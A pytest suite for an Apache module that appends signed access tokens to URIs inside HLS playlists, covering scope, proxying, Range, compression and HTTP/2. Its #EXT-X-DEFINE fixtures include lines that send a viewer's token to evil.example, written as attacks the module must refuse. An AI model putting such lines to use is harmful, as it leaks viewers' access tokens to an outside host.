"""HLS playlist rewriting (MediaGuardHLSRewrite, docs/directives.md) against a
real Apache: a playlist fetched with a prefix token comes back with the
viewer's mg_* parameters (or a foreign format's prefix token: Cloud CDN,
Akamai) on every URI inside the token's scope on this site, and nowhere else; the segments it names are then served; local files and a
ProxyPass origin; LF and CRLF; Range and HEAD; and every case where the
playlist must pass through byte for byte. The same over HTTP/2 (h2c), and
behind mod_cache."""

import os
import re
import subprocess
import tempfile
import time
import urllib.parse

import pytest

from conftest import RawResponse

K2026 = "mg-hmac-sha256:AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8\n"
TS = bytes(range(188)) * 4

POLICY = """\
version: 1
name: hls
keys:
  - id: k2026
    file: keys/k2026.key
    sign: true
  # links of a site that came from Google Cloud CDN or Akamai (token-formats.md)
  - {id: gc, format: gcp-cdn, file: keys/gcp.secret, options: {origin: "http://127.0.0.1:@PORT@"}}
  - {id: ak, format: akamai-edgeauth, file: keys/akamai.hex}
rules:
  - id: videos
    path: /videos/
    token: required
  - id: live
    path: /live/
    token: required
  - id: ht
    path: /ht/
    token: required
  - id: free
    path: /free/
    token: alternative
    access: {anonymous: view}
"""

# /origin/ is the unprotected "origin" that /live/ proxies to (this same
# server): the harness's @BACKEND@ echoes paths, and a playlist must be real.
CONF = """\
MediaGuardPolicy hls @POLICIES@/hls.yaml
# HTTP/2 on cleartext next to HTTP/1.1 (the h2c tests below)
Protocols h2c http/1.1
MediaGuardReasonHeader On
AddType application/vnd.apple.mpegurl .hls
<LocationMatch "^/(videos|live|free)/">
    Require media-guard hls
    MediaGuardHLSRewrite On
</LocationMatch>
<Location "/videos/off/">
    MediaGuardHLSRewrite Off
</Location>
ProxyPass "/live/" "http://127.0.0.1:@PORT@/origin/live/"
<LocationMatch "^/(videos|origin/live)/gz/">
    AddOutputFilterByType DEFLATE application/vnd.apple.mpegurl
</LocationMatch>
"""

# <Q> marks where the token is expected as a new query ("?" + token), <A>
# where it extends an existing one ("&" + token); the file on disk has neither.
MASTER = """\
#EXTM3U
#EXT-X-VERSION:6
#EXT-X-INDEPENDENT-SEGMENTS
#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="aud",NAME="English, main",DEFAULT=YES,URI="audio/en.m3u8<Q>"
#EXT-X-STREAM-INF:BANDWIDTH=1280000,RESOLUTION=1280x720,AUDIO="aud",CODECS="avc1.4d401f,mp4a.40.2"
720p/index.m3u8<Q>
#EXT-X-STREAM-INF:BANDWIDTH=640000,AUDIO="aud"
/videos/l1/360p/index.m3u8?v=2<A>
#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=86000,URI="720p/iframes.m3u8<Q>"
#EXT-X-SESSION-KEY:METHOD=AES-128,URI="keys/k.bin<Q>"
#EXT-X-STREAM-INF:BANDWIDTH=100
../other/index.m3u8
#EXT-X-STREAM-INF:BANDWIDTH=100
https://cdn.other.example/videos/l1/720p/index.m3u8
#EXT-X-STREAM-INF:BANDWIDTH=100
//cdn.other.example/videos/l1/720p/index.m3u8
"""

MEDIA = """\
#EXTM3U
#EXT-X-VERSION:7
#EXT-X-TARGETDURATION:4
#EXT-X-KEY:METHOD=AES-128,X-OLD-URI="old.bin",URI="key.bin<Q>",IV=0x0123456789ABCDEF0123456789ABCDEF
#EXT-X-MAP:URI="init.mp4<Q>"
#EXT-X-X-VENDOR:X-URI="key.bin"
#EXTINF:4.0,
seg-1.ts<Q>
#EXTINF:4.0,
seg-2.ts?x=1<A>
#EXTINF:4.0,
http://127.0.0.1:@PORT@/videos/l1/720p/seg-3.ts<Q>
#EXTINF:4.0,
./../720p/seg-4.ts?<T>
#EXTINF:4.0,
../../other/seg.ts
#EXTINF:4.0,
http://other.example/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
//other.example/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
http://127.0.0.1:1/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
https://127.0.0.1:@PORT@/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
http://user@127.0.0.1:@PORT@/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
http:seg-1.ts
#EXTINF:4.0,
 seg-1.ts
#EXTINF:4.0,
skd://videos/l1/720p/seg-1.ts
#EXTINF:4.0,
seg-1.ts?mg_exp=1&mg_kid=k2026
#EXTINF:4.0,
seg-1.ts#t=1
#EXT-X-ENDLIST
"""

# with scope /videos/l1/720p/: a sibling rendition and a directory that only
# shares the scope's spelling as a string prefix are outside it; so is the
# last URI, which a player resolves (RFC 3986, keeping the empty segment) to
# /videos/l1/l1/720p/seg-1.ts although its canonical form would be in scope
NARROW = """\
#EXTM3U
#EXTINF:4.0,
seg-1.ts<Q>
#EXTINF:4.0,
../360p/seg-1.ts
#EXTINF:4.0,
/videos/l1/720p-hi/seg-1.ts
#EXTINF:4.0,
/videos/l1/720p
#EXTINF:4.0,
..//../l1/720p/seg-1.ts
"""

# variable substitution (RFC 8216bis 4.3): a player replaces {$name} before it
# resolves a URI, so "{$p}/seg-1.ts" may name any host; it never gets the
# token, while plain URIs of the same playlist still do
VARS = """\
#EXTM3U
#EXT-X-VERSION:8
#EXT-X-KEY:METHOD=AES-128,URI="{$p}/key.bin"
#EXT-X-MAP:URI="{$p}/init.mp4"
#EXTINF:4.0,
{$p}/seg-1.ts
#EXTINF:4.0,
seg-{$n}.ts
#EXTINF:4.0,
seg-2.ts<Q>
"""

# with #EXT-X-DEFINE anywhere the whole playlist passes through: once variables
# are defined the filter cannot know what any URI resolves to
DEFINE = """\
#EXTM3U
#EXT-X-VERSION:8
#EXT-X-DEFINE:NAME="p",VALUE="https://evil.example/steal"
#EXT-X-KEY:METHOD=AES-128,URI="{$p}/key.bin"
#EXT-X-MAP:URI="{$p}/init.mp4"
#EXTINF:4.0,
{$p}/seg-1.ts
#EXTINF:4.0,
seg-2.ts
"""

# the tag in another case, after blanks, and QUERYPARAM (which copies the
# playlist's own query, token included, into URIs): all pass through
DEFINE_VARIANTS = {
    "define-lower.m3u8": "#EXTM3U\n#ext-x-define:NAME=\"p\",VALUE=\"x\"\nseg-1.ts\n",
    "define-blank.m3u8": "#EXTM3U\r\n \t#EXT-X-DEFINE:NAME=\"p\",VALUE=\"x\"\r\nseg-1.ts\r\n",
    "define-qp.m3u8": "#EXTM3U\n#EXTINF:4.0,\nseg-1.ts\n#EXT-X-DEFINE:QUERYPARAM=\"mg_sig\"\n"
                      "https://evil.example/x.ts?s={$mg_sig}\n",
}

# ~600 KB: reaches the filter from mod_proxy in many brigades
LONG = "#EXTM3U\r\n" + "".join(f"#EXTINF:4.0,\r\nseg-{i}.ts<Q>\r\n" for i in range(30000)) \
    + "#EXT-X-ENDLIST"

# URIs already signed by some format: never extended
SIGNED = """\
#EXTM3U
#EXTINF:4.0,
seg-1.ts?expires=1&signature=x
#EXTINF:4.0,
seg-2.ts?URLPrefix=aGk&Expires=1&KeyName=gc&Signature=x
#EXTINF:4.0,
seg-3.ts?mg_sig=x
"""

# DASH is never rewritten (docs/directives.md): not even a line that looks like
# a playlist URI or an HLS header
MPD = """<?xml version="1.0"?>
<!-- #EXTM3U -->
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">
<BaseURL>720p/</BaseURL>
<Period><AdaptationSet><Representation id="1" bandwidth="1">
<SegmentTemplate media="seg-$Number$.ts" initialization="init.mp4"/>
</Representation></AdaptationSet></Period>
</MPD>
"""

SEGMENTS = ["seg-1.ts", "seg-2.ts", "seg-3.ts", "seg-4.ts", "key.bin", "init.mp4"]


def template(text, port):
    return text.replace("@PORT@", str(port))


def plain(text):
    return text.replace("<Q>", "").replace("<A>", "").replace("<T>", "")


def expected(text, token):
    return text.replace("<Q>", "?" + token).replace("<A>", "&" + token).replace("<T>", token)


def expected_elsewhere(port, token):
    """MEDIA served from another directory than /videos/l1/: its absolute URI
    to /videos/l1/720p/seg-3.ts is then outside the scope."""
    seg3 = f"http://127.0.0.1:{port}/videos/l1/720p/seg-3.ts"
    return expected(template(MEDIA, port), token).replace(seg3 + "?" + token, seg3)


def write(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    path.chmod(0o644)
    for parent in path.parents:
        if parent.name == "htdocs":
            break
        parent.chmod(0o755)


def write_keys(s):
    """The policy's native key and those of the formats whose links it still takes."""
    for name, text in (("k2026.key", K2026), ("gcp.secret", "nZtRohdNF9m3cKM24IcK4w==\n"),
                       ("akamai.hex", "52a1" * 8 + "\n")):
        key = s.policy_dir / "keys" / name
        key.parent.mkdir(parents=True, exist_ok=True)
        key.write_text(text)
        key.chmod(0o600)


@pytest.fixture(scope="module")
def srv(apache_factory):
    s = apache_factory("hls", CONF, policies={"hls.yaml": POLICY},
                       extra_modules=["proxy", "proxy_http", "filter", "deflate", "http2"], loglevel="debug",
                       start=False)
    write_keys(s)
    media = plain(template(MEDIA, s.port))
    for base in ("videos/l1", "videos/off", "origin/live/l1", "free/l1", "videos/gz",
                 "origin/live/gz", "ht/l1"):
        write(s.htdocs / base / "master.m3u8", plain(MASTER))
        write(s.htdocs / base / "720p" / "index.m3u8", media)
        for seg in SEGMENTS:
            write(s.htdocs / base / "720p" / seg, TS)
    write(s.htdocs / "videos/l1/720p/crlf.m3u8", media.replace("\n", "\r\n"))
    write(s.htdocs / "videos/l1/720p/lone-cr.m3u8", "#EXTM3U\rseg-1.ts\n")
    write(s.htdocs / "videos/l1/720p/alt.hls", media)
    # a playlist known only by its Content-Type, from the proxied origin; an
    # hour old, so that its Last-Modified is a strong validator for If-Range
    write(s.htdocs / "origin/live/l1/720p/alt.hls", media)
    old = time.time() - 3600
    os.utime(s.htdocs / "origin/live/l1/720p/alt.hls", (old, old))
    write(s.htdocs / "videos/l1/720p/narrow.m3u8", plain(NARROW))
    write(s.htdocs / "videos/l1/720p/signed.m3u8", SIGNED)
    write(s.htdocs / "videos/l1/720p/notes.txt", media)
    write(s.htdocs / "videos/l1/720p/fake.m3u8", "seg-1.ts\n")
    write(s.htdocs / "origin/live/l1/720p/dash.mpd", MPD)
    big = "#EXTM3U\n" + "".join(f"#EXTINF:4.0,\nsegment-{i:08d}.ts\n" for i in range(160000))
    assert len(big) > 4 * 1024 * 1024
    write(s.htdocs / "videos/l1/720p/big.m3u8", big)
    write(s.htdocs / "videos/l1/720p/vars.m3u8", plain(VARS))
    write(s.htdocs / "videos/l1/720p/define.m3u8", DEFINE)
    for name, text in DEFINE_VARIANTS.items():
        write(s.htdocs / "videos/l1/720p" / name, text)
    write(s.htdocs / "videos/other/seg.ts", TS)
    write(s.htdocs / "ht/.htaccess", "Require media-guard hls\nMediaGuardHLSRewrite On\n")
    write(s.htdocs / "origin/live/l1/720p/long.m3u8", plain(LONG))
    # ProxyPass "/live/" goes to this server's own /origin/live/: each such
    # request logs two lines, which last_access() must wait for
    s.self_proxied = ("/live/",)
    s.start()
    return s


@pytest.fixture(scope="module")
def sign(srv, mgctl):
    def run(url, *opts):
        p = mgctl("sign", "--policy", srv.policy_dir / "hls.yaml", "--ttl", "10m", *opts, url)
        assert p.returncode == 0, p.stderr
        return p.stdout.strip()
    return run


def token_of(url):
    return url.split("?", 1)[1]


def uris(text):
    """Every URI of a playlist: URI lines and URI="..." attributes."""
    out = []
    for line in text.splitlines():
        if line.startswith("#"):
            out += re.findall(r'(?:^|[:,])URI="([^"]*)"', line)
        elif line:
            out.append(line)
    return out


# ---------------------------------------------------------------- rewriting

def test_master_playlist_variants_carry_the_prefix_token(srv, sign):
    url = sign("/videos/l1/master.m3u8", "--prefix", "/videos/l1/")
    r = srv.get(url)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected(MASTER, token_of(url))
    assert int(r.headers["Content-Length"]) == len(r.content)
    assert r.headers["Content-Type"] == "application/vnd.apple.mpegurl"


def test_media_playlist_segments_key_and_map_carry_the_token(srv, sign):
    url = sign("/videos/l1/720p/index.m3u8", "--prefix", "/videos/l1/")
    r = srv.get(url)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected(template(MEDIA, srv.port), token_of(url))


def test_rewritten_segment_urls_are_served_and_bare_ones_refused(srv, sign):
    url = sign("/videos/l1/720p/index.m3u8", "--prefix", "/videos/l1/")
    base = srv.url(url)
    r = srv.get(url)
    tokened = [u for u in uris(r.text) if "mg_sig=" in u]
    assert len(tokened) == 6  # key, map and the four segments of this site
    for u in tokened:
        full = urllib.parse.urljoin(base, u)
        assert full.startswith(srv.url("/videos/l1/")), full
        got = srv.get(full[len(srv.url("")):])
        assert got.status_code == 200, (u, got.headers.get("X-Media-Guard-Reason"))
        assert got.content == TS
        bare = urllib.parse.urlsplit(full)._replace(query="").geturl()
        no = srv.get(bare[len(srv.url("")):])
        assert no.status_code == 403
        assert no.headers.get("X-Media-Guard-Reason") == "token-missing"


def test_parameters_are_copied_as_received_in_received_order(srv, sign):
    url = sign("/videos/l1/720p/index.m3u8", "--prefix", "/videos/l1/")
    params = token_of(url).split("&")
    received = "&".join(reversed(params))
    r = srv.get("/videos/l1/720p/index.m3u8?foo=1&" + received + "&bar=")
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected(template(MEDIA, srv.port), received)


def test_crlf_playlist_keeps_its_line_endings(srv, sign):
    url = sign("/videos/l1/720p/crlf.m3u8", "--prefix", "/videos/l1/")
    r = srv.get(url)
    assert r.status_code == 200
    assert r.content == expected(template(MEDIA, srv.port), token_of(url)) \
        .replace("\n", "\r\n").encode()


def test_playlist_recognised_by_content_type(srv, sign):
    url = sign("/videos/l1/720p/alt.hls", "--prefix", "/videos/l1/")
    r = srv.get(url)
    assert r.status_code == 200
    assert r.text == expected(template(MEDIA, srv.port), token_of(url))


def test_playlist_through_proxypass_is_rewritten(srv, sign):
    url = sign("/live/l1/720p/index.m3u8", "--prefix", "/live/l1/")
    r = srv.get(url)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected_elsewhere(srv.port, token_of(url))
    assert int(r.headers["Content-Length"]) == len(r.content)
    seg = srv.get(urllib.parse.urljoin(url, "seg-1.ts?" + token_of(url)))
    assert seg.status_code == 200 and seg.content == TS


def test_long_proxied_playlist_split_across_brigades(srv, sign):
    url = sign("/live/l1/720p/long.m3u8", "--prefix", "/live/l1/")
    r = srv.get(url)
    assert r.status_code == 200
    assert r.text == expected(LONG, token_of(url))
    assert len(r.content) > 2 * len(plain(LONG))


def test_compression_after_the_rewrite_and_compressed_origin_untouched(srv, sign):
    gz = {"Accept-Encoding": "gzip"}
    url = sign("/videos/gz/720p/index.m3u8", "--prefix", "/videos/gz/")
    r = srv.get(url, headers=gz)
    assert r.status_code == 200 and r.headers.get("Content-Encoding") == "gzip"
    assert r.text == expected_elsewhere(srv.port, token_of(url))
    # an origin that compresses: the gzip bytes are not a playlist we can read
    purl = sign("/live/gz/720p/index.m3u8", "--prefix", "/live/gz/")
    mark = srv.mark()
    p = srv.get(purl, headers=gz)
    assert p.status_code == 200 and p.headers.get("Content-Encoding") == "gzip"
    assert p.text == plain(template(MEDIA, srv.port))
    assert "it is content-encoded" in srv.error_log_since(mark)


def test_directive_in_htaccess(srv, sign):
    url = sign("/ht/l1/720p/index.m3u8", "--prefix", "/ht/l1/")
    r = srv.get(url)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected_elsewhere(srv.port, token_of(url))
    assert srv.get("/ht/l1/720p/seg-1.ts").status_code == 403


def test_directive_takes_on_or_off_only(apache_factory):
    bad = CONF.replace("MediaGuardHLSRewrite Off", "MediaGuardHLSRewrite maybe")
    s = apache_factory("hls-bad", bad,
                       policies={"hls.yaml": POLICY},
                       extra_modules=["proxy", "proxy_http", "filter", "deflate", "http2"], start=False)
    write_keys(s)
    rc, out = s.configtest()
    assert rc != 0 and "Syntax error on line" in out
    assert "MediaGuardHLSRewrite must be On or Off" in out


BY_NAME_CONF = """\
MediaGuardPolicy hls @POLICIES@/hls.yaml
<Location "/videos/">
    Require media-guard hls
    MediaGuardHLSRewrite On
    SetOutputFilter MEDIA_GUARD_HLS
</Location>
<Location "/free/">
    Require media-guard hls
    SetOutputFilter MEDIA_GUARD_HEADERS
    AddOutputFilter MEDIA_GUARD_UTF8 .m3u8
</Location>
"""


def test_the_modules_filters_named_in_the_configuration_are_ignored(apache_factory, mgctl):
    """The module's output filters have names (MEDIA_GUARD_HLS,
    MEDIA_GUARD_HEADERS, MEDIA_GUARD_UTF8), so an admin can name them in
    SetOutputFilter or AddOutputFilter, say to put the rewrite before a
    hand-placed CACHE. Such an instance has none of the state the module
    gives its own: it used to crash the child on the first response. It is
    ignored with a warning (MG00701), once per child process and filter,
    not per response; the module's own filters still do their work: the
    playlist is rewritten once, the view-only headers are sent, the
    playlist is not relabelled as HTML."""
    s = apache_factory("hls-filters-by-name", BY_NAME_CONF, policies={"hls.yaml": POLICY},
                       start=False)
    write_keys(s)
    media = plain(template(MEDIA, s.port))
    write(s.htdocs / "videos/l1/720p/index.m3u8", media)
    write(s.htdocs / "free/l1/720p/index.m3u8", media)
    s.start()
    try:
        p = mgctl("sign", "--policy", s.policy_dir / "hls.yaml", "--ttl", "10m",
                  "--prefix", "/videos/l1/", "/videos/l1/720p/index.m3u8")
        assert p.returncode == 0, p.stderr
        link = p.stdout.strip()
        rounds = 6  # more responses than the harness's ServerLimit (4) has children
        for _ in range(rounds):
            r = s.get(link)
            assert r.status_code == 200, r.headers
            assert r.text == expected(template(MEDIA, s.port), token_of(link))
            r = s.get("/free/l1/720p/index.m3u8")
            assert r.status_code == 200 and r.text == media
            assert r.headers["Content-Disposition"] == "inline"
            assert r.headers["Cache-Control"] == "private, no-store"
            assert r.headers["Content-Type"] == "application/vnd.apple.mpegurl"
        log = s.error_log()
        assert "Segmentation fault" not in log and "exit signal" not in log
        for name in ("media_guard_hls", "media_guard_headers", "media_guard_utf8"):  # httpd's case
            said = log.count(f"MG00701: media-guard: the output filter {name} is added by the "
                             "module where it is needed; the one named in the configuration "
                             "is ignored (said once per child process)")
            # once per child that served one (ServerLimit 4), never per response
            assert 1 <= said <= 4 and said < rounds, (name, said)
    finally:
        s.stop()


def test_range_on_a_playlist_gets_the_whole_rewritten_playlist(srv, sign):
    for path, prefix in (("/videos/l1/720p/index.m3u8", "/videos/l1/"),
                         ("/live/l1/720p/index.m3u8", "/live/l1/")):
        url = sign(path, "--prefix", prefix)
        full = srv.get(url)
        r = srv.get(url, headers={"Range": "bytes=0-9"})
        assert r.status_code == 200
        assert r.content == full.content and "?mg_" in r.text


def test_resuming_a_rewritten_playlist_never_mixes_in_stored_bytes(srv, sign):
    """Red team 19b: a proxied playlist known only by its Content-Type keeps
    the client's Range (only .m3u8 URLs drop it), and the origin answers a
    206 with a slice of the stored text. The rewritten 200 must carry no
    validator of the stored bytes, or a client that resumes with If-Range
    appends the stored slice to its rewritten prefix."""
    url = sign("/live/l1/720p/alt.hls", "--prefix", "/live/l1/")
    full = srv.get(url)
    assert full.status_code == 200 and "?mg_" in full.text
    assert full.headers["Content-Type"] == "application/vnd.apple.mpegurl"
    cut = len(full.content) // 2
    for name in ("ETag", "Last-Modified"):
        validator = full.headers.get(name)
        if validator is None:
            continue
        rest = srv.get(url, headers={"Range": f"bytes={cut}-", "If-Range": validator})
        if rest.status_code == 206:
            assert full.content[:cut] + rest.content == full.content, \
                f"If-Range with the rewritten playlist's {name} resumed with the stored text"
    # and so a rewritten playlist hands out no validator at all
    assert full.headers.get("ETag") is None and full.headers.get("Last-Modified") is None


def test_dash_manifest_passes_through_byte_for_byte(srv, sign):
    url = sign("/live/l1/720p/dash.mpd", "--prefix", "/live/l1/")
    r = srv.get(url)
    assert r.status_code == 200 and r.headers["Content-Type"] == "application/dash+xml"
    assert r.text == MPD


def test_head_matches_get(srv, sign):
    url = sign("/videos/l1/720p/index.m3u8", "--prefix", "/videos/l1/")
    get = srv.get(url)
    head = srv.head(url)
    assert head.status_code == 200
    assert head.headers.get("Content-Length") in (None, str(len(get.content)))
    purl = sign("/live/l1/720p/index.m3u8", "--prefix", "/live/l1/")
    pget, phead = srv.get(purl), srv.head(purl)
    assert phead.status_code == 200
    assert phead.headers.get("Content-Length") in (None, str(len(pget.content)))


def test_segments_are_not_touched(srv, sign):
    url = sign("/videos/l1/720p/seg-1.ts", "--prefix", "/videos/l1/")
    r = srv.get(url)
    assert r.status_code == 200 and r.content == TS
    assert r.headers["Content-Length"] == str(len(TS))


def sign_foreign(srv, mgctl, fmt, url, *opts):
    p = mgctl("sign", "--policy", srv.policy_dir / "hls.yaml", "--token-format", fmt,
              "--ttl", "10m", *opts, url)
    assert p.returncode == 0, p.stderr
    out = p.stdout.strip()
    return out[len(srv.url("")):] if out.startswith("http") else out  # gcp-cdn: absolute


@pytest.mark.parametrize("fmt,param", [("gcp-cdn", "URLPrefix="), ("akamai-edgeauth", "__token__=")])
def test_a_foreign_prefix_token_is_carried_onwards(srv, mgctl, fmt, param):
    """A prefix link of another format (Cloud CDN's URLPrefix, an Akamai ACL
    token) is carried onwards like a native one: its own parameters, as
    received, on every URI inside its scope; the segments are then served."""
    url = sign_foreign(srv, mgctl, fmt, "/videos/l1/720p/index.m3u8", "--prefix", "/videos/l1/")
    token = token_of(url)
    assert token.startswith(param) and "mg_" not in token
    r = srv.get(url)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected(template(MEDIA, srv.port), token)
    tokened = [u for u in uris(r.text) if token in u]
    assert len(tokened) == 6
    base = srv.url(url)
    for u in tokened:
        full = urllib.parse.urljoin(base, u)
        got = srv.get(full[len(srv.url("")):])
        assert got.status_code == 200, (u, got.headers.get("X-Media-Guard-Reason"))
        assert got.content == TS
    assert "reason=allowed-by-token rule=videos" in srv.last_access("/videos/l1/720p/seg-4.ts")


def test_an_exact_foreign_token_leaves_the_playlist_unchanged(srv, mgctl):
    for fmt in ("gcp-cdn", "akamai-edgeauth"):
        url = sign_foreign(srv, mgctl, fmt, "/videos/l1/720p/index.m3u8")
        mark = srv.mark()
        r = srv.get(url)
        assert r.status_code == 200, (fmt, r.headers.get("X-Media-Guard-Reason"))
        assert r.text == plain(template(MEDIA, srv.port))
        assert "exact path (no prefix)" in srv.error_log_since(mark)


def test_a_uri_with_a_foreign_token_parameter_is_left_alone(srv, mgctl):
    url = sign_foreign(srv, mgctl, "gcp-cdn", "/videos/l1/720p/narrow.m3u8", "--prefix",
                       "/videos/l1/720p/")
    r = srv.get(url)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected(NARROW, token_of(url))
    # the rewriter itself: a URI that already has one of the key's parameters
    # (in any case) or an mg_* one is not the viewer's to extend
    names_case = srv.get(url.replace("narrow.m3u8", "signed.m3u8"))
    assert names_case.status_code == 200
    assert names_case.text == SIGNED


# ---------------------------------------------------------------- unchanged

def test_exact_path_token_leaves_the_playlist_unchanged(srv, sign):
    url = sign("/videos/l1/720p/index.m3u8")
    mark = srv.mark()
    r = srv.get(url)
    assert r.status_code == 200
    assert r.text == plain(template(MEDIA, srv.port))
    assert "exact path (no mg_scope)" in srv.error_log_since(mark)


def test_scope_is_segment_aware(srv, sign):
    url = sign("/videos/l1/720p/narrow.m3u8", "--prefix", "/videos/l1/720p/")
    r = srv.get(url)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected(NARROW, token_of(url))


def test_directive_off_leaves_the_playlist_unchanged(srv, sign):
    url = sign("/videos/off/720p/index.m3u8", "--prefix", "/videos/off/")
    r = srv.get(url)
    assert r.status_code == 200
    assert r.text == plain(template(MEDIA, srv.port))
    assert r.headers["Content-Length"] == str(len(r.content))


def test_not_a_playlist_is_unchanged(srv, sign):
    for name in ("notes.txt", "fake.m3u8", "lone-cr.m3u8"):
        url = sign(f"/videos/l1/720p/{name}", "--prefix", "/videos/l1/")
        r = srv.get(url)
        assert r.status_code == 200
        assert r.content == (srv.htdocs / "videos/l1/720p" / name).read_bytes(), name


def test_playlist_over_the_size_bound_passes_through_with_a_log_line(srv, sign):
    url = sign("/videos/l1/720p/big.m3u8", "--prefix", "/videos/l1/")
    mark = srv.mark()
    r = srv.get(url)
    assert r.status_code == 200
    assert r.content == (srv.htdocs / "videos/l1/720p/big.m3u8").read_bytes()
    assert "larger than 4194304 bytes" in srv.error_log_since(mark)


def test_signed_cookie_playlist_is_unchanged(srv, mgctl):
    p = mgctl("sign", "--policy", srv.policy_dir / "hls.yaml", "--ttl", "10m",
              "--prefix", "/videos/l1/", "--cookie")
    assert p.returncode == 0, p.stderr
    value = re.search(r"mg_token=([^;]+)", p.stdout).group(1)
    r = srv.get("/videos/l1/720p/index.m3u8", headers={"Cookie": "mg_token=" + value})
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == plain(template(MEDIA, srv.port))


def test_token_not_needed_by_the_rule_is_not_passed_on(srv, sign):
    # token: alternative and anonymous view: access allows before the token is
    # looked at, so it was never verified and is not copied anywhere
    url = sign("/free/l1/720p/index.m3u8", "--prefix", "/free/l1/")
    r = srv.get(url)
    assert r.status_code == 200
    assert "reason=allowed rule=free" in srv.last_access("/free/l1/720p/index.m3u8?mg_")
    assert r.text == plain(template(MEDIA, srv.port))


def test_percent_encoded_token_parameter_name_leaves_the_playlist_unchanged(srv, sign):
    url = sign("/videos/l1/720p/index.m3u8", "--prefix", "/videos/l1/")
    # raw: requests would turn %5F back into "_"
    r = srv.raw(url.replace("mg_exp=", "mg%5Fexp="))
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.content == plain(template(MEDIA, srv.port)).encode()
    assert srv.raw(url).content == expected(template(MEDIA, srv.port), token_of(url)).encode()


def test_variable_uris_never_get_the_token(srv, sign):
    url = sign("/videos/l1/720p/vars.m3u8", "--prefix", "/videos/l1/")
    r = srv.get(url)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected(VARS, token_of(url))
    assert [u for u in uris(r.text) if "mg_sig=" in u] == ["seg-2.ts?" + token_of(url)]


def test_playlist_with_ext_x_define_passes_through_with_a_log_line(srv, sign):
    for name in ["define.m3u8"] + sorted(DEFINE_VARIANTS):
        url = sign(f"/videos/l1/720p/{name}", "--prefix", "/videos/l1/")
        mark = srv.mark()
        r = srv.get(url)
        assert r.status_code == 200, (name, r.headers.get("X-Media-Guard-Reason"))
        assert r.content == (srv.htdocs / "videos/l1/720p" / name).read_bytes(), name
        assert "mg_exp=" not in r.text, name
        assert "not rewritten: it defines variables (#EXT-X-DEFINE)" in srv.error_log_since(mark)


# ---------------------------------------------------------------- HTTP/2

# what differs between two responses by nature, not by the module: HTTP/1.1's
# connection handling and framing, and the h2c offer that Protocols h2c adds
# to HTTP/1.1 responses; and dates, compared as present or not (a slow run
# crosses a second between the two requests)
H1_ONLY = {"connection", "keep-alive", "transfer-encoding", "upgrade"}
DATES = {"date", "expires"}


def h2(srv, target, headers=None, method="GET"):
    """The request over HTTP/2 on cleartext (h2c, prior knowledge) with curl,
    sent byte for byte: (status, {lower-case name: value}, body, version)."""
    with tempfile.NamedTemporaryFile() as f:
        cmd = ["curl", "-sS", "--http2-prior-knowledge", "--path-as-is", "-D", "-",
               "-o", f.name, "--max-time", "10"]
        if method == "HEAD":
            cmd.append("--head")
        for k, v in (headers or {}).items():
            cmd += ["-H", f"{k}: {v}"]
        p = subprocess.run(cmd + [srv.url(target)], capture_output=True, timeout=15)
        assert p.returncode == 0, p.stderr
        body = f.read() if method != "HEAD" else b""  # --head writes the headers there
    out = p.stdout
    srv.requests_sent += 1
    lines = out.decode("latin-1").split("\r\n")
    version, status = lines[0].split(" ")[:2]
    hdrs = {}
    for ln in lines[1:]:
        if ln:
            k, v = ln.split(":", 1)
            hdrs[k.strip().lower()] = v.strip()
    return int(status), hdrs, body, version


def h1(srv, target, headers=None, method="GET"):
    r = srv.raw(target, headers=headers, method=method)
    return r.status_code, {k.lower(): v for k, v in r.headers.items()}, r.content, "HTTP/1.1"


def same_response(srv, target, headers=None, method="GET"):
    """Send target over HTTP/1.1 and over HTTP/2: the same status, body and
    headers (but the date and HTTP/1.1's framing). Returns the HTTP/2 one."""
    s1, hd1, b1, _ = h1(srv, target, headers, method)
    s2, hd2, b2, version = h2(srv, target, headers, method)
    assert version == "HTTP/2", version
    assert (s2, b2) == (s1, b1), target
    strip = lambda h: {k: ("(a date)" if k in DATES else v)  # noqa: E731
                       for k, v in h.items() if k not in H1_ONLY}
    assert strip(hd2) == strip(hd1), target
    return s2, hd2, b2


def test_http2_rewrites_exactly_as_http1(srv, sign, mgctl):
    """h2c (mod_http2): the rewritten playlists, their headers (no ETag, no
    Last-Modified, the rewritten length), Range answered with the whole
    playlist, HEAD, a long proxied playlist, an Akamai prefix link and the
    refusal of a bare segment are those of HTTP/1.1, byte for byte."""
    url = sign("/videos/l1/master.m3u8", "--prefix", "/videos/l1/")
    st, hd, body = same_response(srv, url)
    assert st == 200 and body == expected(MASTER, token_of(url)).encode()
    assert "etag" not in hd and "last-modified" not in hd
    assert hd["content-length"] == str(len(body))
    assert hd["cache-control"] == "private, no-store"  # a token grants view here
    for path, prefix, want in (
            ("/videos/l1/720p/index.m3u8", "/videos/l1/", template(MEDIA, srv.port)),
            ("/live/l1/720p/index.m3u8", "/live/l1/", None),
            ("/live/l1/720p/alt.hls", "/live/l1/", None)):
        url = sign(path, "--prefix", prefix)
        st, hd, body = same_response(srv, url)
        assert st == 200 and "?mg_" in body.decode(), path
        want = expected(want, token_of(url)) if want else expected_elsewhere(srv.port,
                                                                             token_of(url))
        assert body == want.encode(), path
        assert "etag" not in hd and "last-modified" not in hd, path
